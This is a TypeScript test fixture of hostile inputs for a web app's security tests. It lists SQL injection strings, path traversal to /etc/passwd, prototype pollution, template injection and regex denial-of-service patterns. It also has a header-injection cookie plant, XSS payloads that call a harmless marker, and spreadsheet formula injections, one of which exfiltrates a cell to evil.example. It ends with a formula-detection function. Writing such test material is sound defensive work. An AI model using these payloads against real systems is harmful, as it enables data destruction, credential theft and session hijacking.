/** What an attacker types where a word is expected. Each must end as an ordinary answer: taken as text, or refused. */
export const INJECTIONS: readonly string[] = [
  `'; drop table voices; --`,
  `" ; drop table voices; --`,
  `') or ('1'='1`,
  `x' union select password_hash from members --`,
  `1; select pg_sleep(4); --`,
  `'||(select pg_sleep(4))||'`,
  `$1`,
  `$$; drop schema public cascade; $$`,
  `\\'; drop table members; --`,
  `../../../../etc/passwd`,
  `%00`,
  `a\u0000b`,
  `\ud800`,
  `__proto__`,
  `constructor.prototype.polluted`,
  '${7*7}{{7*7}}<%= 7*7 %>#{7*7}',
  '{{constructor.constructor("return process")()}}',
  `(a+)+$`,
  `^(([a-z])+.)+[A-Z]([a-z])+$`,
  `%' or like '%_%_%`,
  'x\r\nset-cookie: voxloop_session=planted',
  '\u001b[31mred\u0007',
  `${'('.repeat(2_000)}`,
  `${'a'.repeat(50_000)}!`,
];

/** Ways to run a script in somebody's browser. Each calls `window.__pwn` if it works. */
export const SCRIPTS: readonly string[] = [
  `<script>window.__pwn(1)</script>`,
  `<img src=x onerror=window.__pwn(2)>`,
  `<svg/onload=window.__pwn(3)>`,
  `"><img src=x onerror=window.__pwn(4)>`,
  `' onmouseover='window.__pwn(5)' x='`,
  `" autofocus onfocus=window.__pwn(6) x="`,
  `<iframe srcdoc="<script>parent.__pwn(7)</script>"></iframe>`,
  `<a href="javascript:window.__pwn(8)">x</a>`,
  `javascript:window.__pwn(9)`,
  `</script><script>window.__pwn(10)</script>`,
  `<style>@import'javascript:window.__pwn(11)';</style>`,
  `<math><mtext></p><mglyph><svg><mtext><style><path id="</style><img onerror=window.__pwn(12) src>">`,
  `<details open ontoggle=window.__pwn(13)>`,
  '`${window.__pwn(14)}`',
  `{{constructor.constructor('window.__pwn(15)')()}}`,
  `<form><button formaction=javascript:window.__pwn(16)>x`,
];

/** Cells that a spreadsheet would take for a formula. */
export const FORMULAS: readonly string[] = [
  `=1+1`,
  `+1+1`,
  `-1+1`,
  `@SUM(1,1)`,
  `\t=1+1`,
  `\r=1+1`,
  `=cmd|' /C calc'!A0`,
  `=HYPERLINK("http://evil.example/?"&A1,"click")`,
  `＝1+1`,
  `　=1+1`,
  `"=1+1"`,
  `;=1+1`,
  `'=1+1`,
  `\n=1+1`,
  `\ufeff=1+1`,
  `\u200b=1+1`,
  `＋1+1`,
  `－1+1`,
  `＠SUM(1,1)`,
  `﹦1+1`,
];

/** Whether a spreadsheet might run the cell: told by what is left of it once all that is not seen, quotes and widths are gone. */
export const isRun = (cell: string): boolean =>
  !cell.startsWith("'") && (/^[\t\r\n]/.test(cell) || /^[=+\-@]/.test(cell.replaceAll(/[\s\p{C}"';]/gu, '').normalize('NFKC')));
